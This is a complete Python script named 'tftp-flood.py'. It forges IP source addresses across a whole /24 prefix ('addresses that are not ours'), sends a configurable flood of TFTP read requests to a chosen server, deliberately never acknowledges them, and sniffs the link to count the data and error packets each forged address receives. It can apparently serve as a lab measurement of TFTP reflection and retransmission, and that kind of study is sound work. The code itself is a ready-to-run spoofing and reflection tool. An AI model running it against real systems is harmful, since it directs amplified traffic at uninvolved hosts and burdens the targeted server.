# Asks for a file from 256 addresses that are not ours, and acknowledges nothing; prints what came back to each as one line of JSON.
# tftp-flood.py LINK SERVER PREFIX COUNT SECONDS FILE: COUNT requests from PREFIX.0 to PREFIX.255, evenly spread over SECONDS, then 7 s of listening.
import collections
import json
import socket
import struct
import sys
import threading
import time

link, server, prefix, count, seconds, file = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), float(sys.argv[5]), sys.argv[6]
SO_RCVBUFFORCE = 33

raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
card = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
try:
    card.setsockopt(socket.SOL_SOCKET, SO_RCVBUFFORCE, 1 << 26)
except PermissionError:
    card.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 26)
card.bind((link, 0))
card.settimeout(0.2)

data, errors = collections.Counter(), collections.Counter()
over = threading.Event()


def hear():
    while not over.is_set():
        try:
            packet, address = card.recvfrom(65535)
        except socket.timeout:
            continue
        start = (packet[0] & 15) * 4
        if address[2] == 4 or packet[9] != 17 or not socket.inet_ntoa(packet[16:20]).startswith(prefix + '.'):
            continue
        to = packet[16:20] + packet[start + 2:start + 4]
        (errors if packet[start + 8:start + 10] == b'\0\5' else data)[to] += 1


def request(i):
    payload = b'\0\1' + file.encode() + b'\0octet\0'
    source = f'{prefix}.{i % 256}'
    udp = struct.pack('>HHHH', 10000 + i, 69, 8 + len(payload), 0) + payload
    head = struct.pack('>BBHHHBBH4s4s', 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(server))
    raw.sendto(head + udp, (server, 0))


listener = threading.Thread(target=hear)
listener.start()
begin = time.monotonic()
for i in range(count):
    wait = begin + seconds * i / count - time.monotonic()
    if wait > 0:
        time.sleep(wait)
    request(i)
time.sleep(7)
over.set()
listener.join()
# Answers by how often each request got one: {"4": 900} are 900 requests with one answer and three of it again.
print(json.dumps({'answers': collections.Counter(str(n) for n in data.values()), 'errors': collections.Counter(str(n) for n in errors.values())}))
